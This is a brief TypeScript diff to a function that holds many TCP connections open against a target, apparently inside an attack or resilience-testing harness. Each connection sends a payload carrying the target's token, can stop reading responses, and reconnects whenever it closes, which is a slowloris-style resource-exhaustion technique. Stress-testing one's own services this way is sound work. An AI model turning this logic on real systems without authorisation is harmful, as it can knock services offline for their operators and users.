@@ -42,9 +42,11 @@ function keepSilent(attack: Extract<Attack, { kind: 'silence' }>, target: Target
   const open = (): void => {
     begun++;
     const socket = connect({ host: hostname, port: Number(port), localAddress, allowHalfOpen: true }, () =>
-      socket.write(attack.sent),
+      socket.write(attack.sent.replace('{token}', target.token)),
     );
-    socket.on('error', () => undefined).resume();
+    socket.on('error', () => undefined);
+    if (attack.takesNothing) socket.pause();
+    else socket.resume();
     socket.on('close', () => setTimeout(open, 100));
   };
   for (let i = 0; i < attack.connections; i++) open();
